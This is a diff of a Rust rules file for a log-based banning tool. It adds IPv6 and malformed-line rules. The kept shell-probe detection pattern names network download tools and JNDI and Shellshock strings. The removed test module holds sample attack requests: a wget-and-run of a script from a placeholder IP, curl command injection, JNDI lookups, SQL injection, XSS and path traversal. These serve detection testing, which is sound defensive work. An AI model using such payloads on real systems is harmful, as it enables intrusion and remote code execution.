@@ -4,17 +4,21 @@
 //! that looks at nothing but paths and queries. That is told for each rule where one or a few such requests are
 //! enough.
 
-use super::rule::{Distinct, Duration};
+use super::rule::{Distinct, Duration, Over};
 
 /// A rule as it comes.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct Shipped {
     /// What a user types.
     pub name: &'static str,
-    /// Which requests are hits; `None` where bans are counted.
+    /// What is counted.
+    pub over: Over,
+    /// Which requests are hits; `None` where something else is counted.
     pub filter: Option<&'static str>,
     /// Count values of this field, each once.
     pub distinct: Option<Distinct>,
+    /// Length of the IPv6 networks whose banned clients are counted.
+    pub prefix: Option<u8>,
     /// The ban falls on this hit.
     pub maxretry: u32,
     /// Stretch of log time that holds the hits.
@@ -58,11 +62,13 @@ const XSS: &str = r#"path ~ "(?i)(<|%3c)(/|%2f)?script|(<|%3c)(svg|img|iframe|ob
 const SHELL_PROBE: &str = r#"path ~ "(?i)/cgi-bin/.*bin/(ba)?sh|eval-stdin\.php|(\$|%24)(\{|%7b)jndi(:|%3a)" or query ~ "(?i)(;|%3b|\||%7c|`|%60|(\$|%24)(\(|%28)|&&|%26%26)(\+|%20)*(wget|curl|tftp|busybox|chmod)(\+|%20|(\$|%24)(\{|%7b)?ifs)[^&;]{0,60}(http|ftp|/tmp|%2ftmp|[0-9]{1,3}\.[0-9]{1,3}\.)|(allow_url_include|auto_prepend_file)(=|%3d)|(\$|%24)(\{|%7b)jndi(:|%3a)" or user_agent contains ["${jndi:", "() { :"] or referrer contains ["${jndi:", "() { :"]"#;
 
 /// Every shipped rule, in the order of every output.
-pub static SHIPPED: [Shipped; 15] = [
+pub static SHIPPED: [Shipped; 19] = [
     Shipped {
         name: "probing",
+        over: Over::Requests,
         filter: Some("status in [400, 403, 404] and not static(path)"),
         distinct: Some(Distinct::Path),
+        prefix: None,
         maxretry: 10,
         findtime: seconds(100),
         bantime: seconds(4 * HOUR),
@@ -72,8 +78,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "sensitive-files",
+        over: Over::Requests,
         filter: Some(SENSITIVE_FILES),
         distinct: Some(Distinct::Path),
+        prefix: None,
         maxretry: 4,
         findtime: seconds(20),
         bantime: seconds(DAY),
@@ -82,8 +90,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "scanner-agent",
+        over: Over::Requests,
         filter: Some(SCANNER_AGENT),
         distinct: None,
+        prefix: None,
         maxretry: 2,
         findtime: seconds(MINUTE),
         bantime: seconds(DAY),
@@ -92,8 +102,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "login-bruteforce",
+        over: Over::Requests,
         filter: Some(r#"method == "POST" and status in [401, 403]"#),
         distinct: None,
+        prefix: None,
         maxretry: 5,
         findtime: seconds(50),
         bantime: seconds(4 * HOUR),
@@ -102,8 +114,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "wordpress-login",
+        over: Over::Requests,
         filter: Some(r#"method == "POST" and path ends_with "/wp-login.php""#),
         distinct: None,
+        prefix: None,
         maxretry: 5,
         findtime: seconds(50),
         bantime: seconds(4 * HOUR),
@@ -112,8 +126,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "xmlrpc",
+        over: Over::Requests,
         filter: Some(r#"method == "POST" and path ends_with "/xmlrpc.php""#),
         distinct: None,
+        prefix: None,
         maxretry: 5,
         findtime: seconds(10 * MINUTE),
         bantime: seconds(4 * HOUR),
@@ -122,8 +138,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "path-traversal",
+        over: Over::Requests,
         filter: Some(PATH_TRAVERSAL),
         distinct: None,
+        prefix: None,
         maxretry: 3,
         findtime: seconds(30),
         bantime: seconds(DAY),
@@ -133,8 +151,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "sql-injection",
+        over: Over::Requests,
         filter: Some(SQL_INJECTION),
         distinct: None,
+        prefix: None,
         maxretry: 10,
         findtime: seconds(10),
         bantime: seconds(DAY),
@@ -143,8 +163,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "xss",
+        over: Over::Requests,
         filter: Some(XSS),
         distinct: None,
+        prefix: None,
         maxretry: 5,
         findtime: seconds(5),
         bantime: seconds(DAY),
@@ -153,8 +175,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "shell-probe",
+        over: Over::Requests,
         filter: Some(SHELL_PROBE),
         distinct: None,
+        prefix: None,
         maxretry: 1,
         findtime: seconds(1),
         bantime: seconds(7 * DAY),
@@ -164,8 +188,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "bad-request",
+        over: Over::Requests,
         filter: Some("status == 400 and missing(method)"),
         distinct: None,
+        prefix: None,
         maxretry: 10,
         findtime: seconds(10 * MINUTE),
         bantime: seconds(4 * HOUR),
@@ -174,8 +200,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "http-flood",
+        over: Over::Requests,
         filter: Some("any"),
         distinct: None,
+        prefix: None,
         maxretry: 1_000,
         findtime: seconds(20),
         bantime: seconds(10 * MINUTE),
@@ -184,8 +212,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "crawl",
+        over: Over::Requests,
         filter: Some(r#"method == "GET" and not static(path)"#),
         distinct: Some(Distinct::Path),
+        prefix: None,
         // A bucket of 40 that leaks two a second is full after 160 in a minute, in whatever order they come: nobody is
         // banned whom the bucket would spare.
         maxretry: 160,
@@ -197,8 +227,10 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "denied",
+        over: Over::Requests,
         filter: Some(r#"termination starts_with "PR" or status == 444"#),
         distinct: None,
+        prefix: None,
         maxretry: 5,
         findtime: seconds(10 * MINUTE),
         bantime: seconds(4 * HOUR),
@@ -208,312 +240,92 @@ pub static SHIPPED: [Shipped; 15] = [
     },
     Shipped {
         name: "recidive",
+        over: Over::Bans,
         filter: None,
         distinct: None,
+        prefix: None,
         maxretry: 3,
         findtime: seconds(DAY),
         bantime: seconds(7 * DAY),
         catches: "who comes back after bans by other rules",
         wrongly: "an address that changed hands within the day",
     },
+    Shipped {
+        name: "ipv6-56",
+        over: Over::Neighbours,
+        filter: None,
+        distinct: None,
+        prefix: Some(56),
+        maxretry: 4,
+        findtime: seconds(DAY),
+        bantime: seconds(DAY),
+        catches: "who goes through the /64s of one IPv6 /56, the network that many providers give to a customer",
+        wrongly: "neighbours where each customer has a single /64, as telephones have; a campus with one network of this \
+                  size",
+    },
+    Shipped {
+        name: "ipv6-48",
+        over: Over::Neighbours,
+        filter: None,
+        distinct: None,
+        prefix: Some(48),
+        maxretry: 8,
+        findtime: seconds(DAY),
+        bantime: seconds(DAY),
+        catches: "the same with a /48, the network of a company or of a rented server",
+        wrongly: "up to 256 customers with a /56 each of a provider that counts from there",
+    },
+    Shipped {
+        name: "ambiguous",
+        over: Over::Ambiguous,
+        filter: None,
+        distinct: None,
+        prefix: None,
+        maxretry: 5,
+        findtime: seconds(10 * MINUTE),
+        bantime: seconds(4 * HOUR),
+        catches: "who hides from the other rules in lines that can be read in two ways, such as by a user name that holds \
+                  half a line, or in lines of more than 64 KiB",
+        wrongly: "clients with quotes in their user agents, where the log does not escape them (`escape=none`)",
+    },
+    Shipped {
+        name: "malformed",
+        over: Over::Rejects,
+        filter: None,
+        distinct: None,
+        prefix: None,
+        maxretry: 10,
+        findtime: seconds(10 * MINUTE),
+        bantime: seconds(4 * HOUR),
+        catches: "who makes lines that nobody can read, in whatever way",
+        wrongly: "every visitor, where the log's format is not the one that was given, or is that of some sites only: see \
+                  `logstat check` first",
+    },
+];
+
+/// The rules that are on where no list of names is given: those that a wrong setting cannot turn on visitors, and that
+/// fit any site.
+///
+/// Left out are `xmlrpc` (Jetpack and WordPress's own application use it), `http-flood` and `crawl` (how many requests
+/// are too many depends on the site), and `malformed`, which takes each visitor of a site for an attacker when its lines
+/// have another format than the rest.
+pub const DEFAULT: [&str; 15] = [
+    "probing",
+    "sensitive-files",
+    "scanner-agent",
+    "login-bruteforce",
+    "wordpress-login",
+    "path-traversal",
+    "sql-injection",
+    "xss",
+    "shell-probe",
+    "bad-request",
+    "denied",
+    "recidive",
+    "ipv6-56",
+    "ipv6-48",
+    "ambiguous",
 ];
 
 #[cfg(test)]
-mod tests {
-    use super::super::filter::{Filter, Subject};
-    use super::super::rule::{self, Rule};
-    use super::*;
-    use logstat_parsers::{Format, Line, Options, Preset};
-    use toml::Spanned;
-
-    fn rule(name: &str) -> Rule {
-        rule::resolve(&[Spanned::new(0..0, name.to_owned())], &[]).unwrap().remove(0)
-    }
-
-    /// Whether a line, of HAProxy if it has a termination state, is a hit.
-    fn is_hit(rule: &Rule, request: &str, status: u16, agent: &str) -> bool {
-        let (preset, line) = match agent.strip_prefix("haproxy ") {
-            Some(state) => (
-                "haproxy-http",
-                format!(
-                    "203.0.113.90:51000 [20/Nov/2026:03:14:02.003] www www/app 0/0/0/1/1 {status} 212 - - {state} \
-                     12/10/0/0/0 0/0 \"{request}\""
-                ),
-            ),
-            None => (
-                "combined",
-                format!(
-                    "203.0.113.90 - - [20/Nov/2026:03:14:02 +0000] \"{request}\" {status} 150 \"-\" \"{agent}\""
-                ),
-            ),
-        };
-        let format =
-            Format::compile(Preset::named(preset).unwrap().format_string, &Options::default()).unwrap();
-        match format.parser(0).parse(line.as_bytes()) {
-            Line::Record(record) => rule.hit(&Subject::of(&record)).is_some(),
-            other => panic!("{line}: {other:?}"),
-        }
-    }
-
-    fn check(name: &str, hits: &[(&str, u16, &str)], near_misses: &[(&str, u16, &str)]) {
-        let rule = rule(name);
-        for (cases, expected) in [(hits, true), (near_misses, false)] {
-            for &(request, status, agent) in cases {
-                let request = if request.contains(' ') || !request.starts_with('/') {
-                    request.to_owned()
-                } else {
-                    format!("GET {request} HTTP/1.1")
-                };
-                assert_eq!(
-                    is_hit(&rule, &request, status, agent),
-                    expected,
-                    "{name}: {request} {status} {agent}"
-                );
-            }
-        }
-    }
-
-    fn check_targets<'t>(name: &str, hits: &[&'t str], near_misses: &[&'t str]) {
-        let requests =
-            |targets: &[&'t str]| targets.iter().map(|target| (*target, 404, "-")).collect::<Vec<_>>();
-        check(name, &requests(hits), &requests(near_misses));
-    }
-
-    #[test]
-    fn every_shipped_rule_is_whole_and_told() {
-        for shipped in &SHIPPED {
-            let rule = rule(shipped.name);
-            assert!(rule.bantime <= rule.bantime_max, "{}", rule.name);
-            assert!(!shipped.catches.is_empty() && !shipped.wrongly.is_empty());
-            if let Some(text) = shipped.filter {
-                let filter = Filter::parse(text).unwrap();
-                assert_eq!(filter.to_string(), text, "canonical");
-            }
-        }
-    }
-
-    #[test]
-    fn probing_login_and_wordpress() {
-        check(
-            "probing",
-            &[
-                ("/a", 404, "-"),
-                ("/a.php?x=1", 403, "-"),
-                ("POST /a HTTP/1.1", 400, "-"),
-                ("/a.css/b", 404, "-"),
-            ],
-            &[
-                ("/a", 200, "-"),
-                ("/favicon.ico", 404, "-"),
-                ("/a.PNG?v=1", 403, "-"),
-                ("/a", 401, "-"),
-                ("", 400, "-"),
-            ],
-        );
-        check(
-            "login-bruteforce",
-            &[("POST /login HTTP/1.1", 401, "-"), ("POST /login HTTP/1.1", 403, "-")],
-            &[("/login", 401, "-"), ("POST /login HTTP/1.1", 200, "-"), ("POST /login HTTP/1.1", 404, "-")],
-        );
-        check(
-            "wordpress-login",
-            &[("POST /wp-login.php HTTP/1.1", 200, "-"), ("POST /blog/wp-login.php?a=b HTTP/2.0", 403, "-")],
-            &[
-                ("/wp-login.php", 200, "-"),
-                ("POST /wp-login.php.html HTTP/1.1", 200, "-"),
-                ("POST /?/wp-login.php HTTP/1.1", 200, "-"),
-            ],
-        );
-        check(
-            "xmlrpc",
-            &[("POST /xmlrpc.php HTTP/1.1", 200, "-"), ("POST //xmlrpc.php HTTP/1.1", 405, "-")],
-            &[("/xmlrpc.php", 405, "-"), ("POST /myxmlrpc.php HTTP/1.1", 200, "-")],
-        );
-    }
-
-    #[test]
-    fn sensitive_files() {
-        check_targets(
-            "sensitive-files",
-            &[
-                "/.env",
-                "/api/.env.bak",
-                "/.ENV",
-                "/%2eenv",
-                "/.git/config",
-                "/.aws/credentials",
-                "/wp-config.php",
-                "/wp-config.php~",
-                "/backup.zip",
-                "/a/dump.sql",
-                "/dump.sql.gz",
-                "/id_rsa",
-                "/server.key",
-                "GET http://example.net/.git/HEAD HTTP/1.1",
-            ],
-            &[
-                "/.well-known/acme-challenge/x",
-                "/.environment",
-                "/.gitignored",
-                "/env",
-                "/docs/git",
-                "/keys",
-                "/?f=/.env",
-                "/learn-sql",
-                "/monkey",
-                "/secretsanta",
-                "/backup.zipper",
-            ],
-        );
-    }
-
-    #[test]
-    fn scanners() {
-        check(
-            "scanner-agent",
-            &[
-                ("/", 200, "sqlmap/1.8#stable (https://sqlmap.org)"),
-                ("/", 404, "Mozilla/5.0 zgrab/0.x"),
-                ("/", 200, "Nikto"),
-            ],
-            &[
-                ("/", 200, "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"),
-                ("/nikto", 200, "curl/8.5.0"),
-                ("/", 200, "-"),
-            ],
-        );
-    }
-
-    #[test]
-    fn traversal_injection_and_script() {
-        check_targets(
-            "path-traversal",
-            &[
-                "/../../etc/hosts",
-                "/a/%2e%2e/%2E%2e%2fb",
-                "/%252e%252e%252f%252e%252e%252f",
-                "/a?f=../../../b",
-                "/a?f=%2fetc%2fpasswd",
-                "/cgi-bin/.%2e/.%2e/bin",
-                r"/..\x5C..\x5Cboot.ini",
-                "/x?page=/proc/self/environ",
-            ],
-            &["/a/../b", "/a?next=../b", "/etc", "/a...b/..c", "/a?v=1..2"],
-        );
-        check_targets(
-            "sql-injection",
-            &[
-                "/a?id=1+UNION+ALL+SELECT+1,2",
-                "/a?id=1%20union%20select%20null",
-                "/a?id=1'+or+'1'='1",
-                "/a?id=1%27%20AND%201=1",
-                "/a?id=sleep(5)",
-                "/a?q=information_schema.tables",
-                "/a?id=1;DROP+TABLE+x",
-                "/a?id=1+order+by+9--",
-            ],
-            &[
-                "/union+select",
-                "/a?q=trade+union",
-                "/a?q=select+a+union",
-                "/a?q=sleep",
-                "/a?sort=order+by+name",
-                "/a?q=rock'n'roll+or+jazz",
-            ],
-        );
-        check_targets(
-            "xss",
-            &[
-                "/a?q=<script>alert(1)</script>",
-                "/a?q=%3CScript%3E",
-                "/%3Csvg/onload=alert(1)%3E",
-                "/a?u=javascript:alert(1)",
-                "/a?q=%22+onerror=alert(1)",
-                "/a?q=%3Cimg%20src=x",
-            ],
-            &[
-                "/script",
-                "/a.js?onload=ready",
-                "/a?q=javascript",
-                "/a?q=1%3C2",
-                "/a?q=image",
-                "/a?q=x-javascript:y",
-            ],
-        );
-    }
-
-    #[test]
-    fn shell_probes() {
-        check_targets(
-            "shell-probe",
-            &[
-                "/shell?cd+/tmp;wget+http://192.0.2.1/a.sh;sh+a.sh",
-                "/a?x=%24%7Bjndi:ldap://192.0.2.1/a%7D",
-                "/vendor/phpunit/eval-stdin.php",
-                "/cgi-bin/.%2e/.%2e/bin/sh",
-                "/a?c=$(curl+192.0.2.1/x)",
-                "/a?x=`wget${IFS}http://192.0.2.1/a`",
-                "/?%ADd+allow_url_include%3d1",
-            ],
-            &[
-                "/wget",
-                "/a?q=wget+http://example.net/",
-                "/a?q=how+to+curl",
-                "/shell",
-                "/bin/sh",
-                "/a?q=a;curl",
-                "/a?q=jndi",
-            ],
-        );
-        check(
-            "shell-probe",
-            &[("/", 200, "() { :; }; /bin/bash -c id"), ("/", 200, "${JNDI:ldap://192.0.2.1/a}")],
-            &[("/", 200, "function() { return }"), ("/", 200, "jndi")],
-        );
-    }
-
-    #[test]
-    fn bad_requests_and_refusals() {
-        check(
-            "bad-request",
-            &[
-                (r"\x16\x03\x01\x02", 400, "-"),
-                ("", 400, "-"),
-                ("SSH-2.0-Go", 400, "-"),
-                ("<BADREQ>", 400, "haproxy PR--"),
-            ],
-            // Connections that browsers open ahead, and requests that can be read.
-            &[
-                ("<BADREQ>", 400, "haproxy CR--"),
-                ("<BADREQ>", 408, "haproxy cR--"),
-                ("/", 400, "-"),
-                ("", 408, "-"),
-            ],
-        );
-        check(
-            "denied",
-            &[("/", 403, "haproxy PR--"), ("/", 429, "haproxy PRVN"), ("/", 444, "-")],
-            &[
-                ("/", 403, "-"),
-                ("/", 503, "haproxy PH--"),
-                ("/", 404, "haproxy ----"),
-                ("<BADREQ>", 408, "haproxy cR--"),
-            ],
-        );
-    }
-
-    #[test]
-    fn floods_crawls_and_bans() {
-        check(
-            "http-flood",
-            &[("/", 200, "-"), ("", 400, "-"), ("POST /a HTTP/1.1", 500, "haproxy SH--")],
-            &[("<BADREQ>", 408, "haproxy cR--"), ("<BADREQ>", 400, "haproxy CR--")],
-        );
-        check(
-            "crawl",
-            &[("/a", 200, "-"), ("/a.html", 404, "-")],
-            &[("/a.css", 200, "-"), ("HEAD /a HTTP/1.1", 200, "-")],
-        );
-        check("recidive", &[], &[("/a", 403, "sqlmap")]);
-    }
-}
+mod tests;
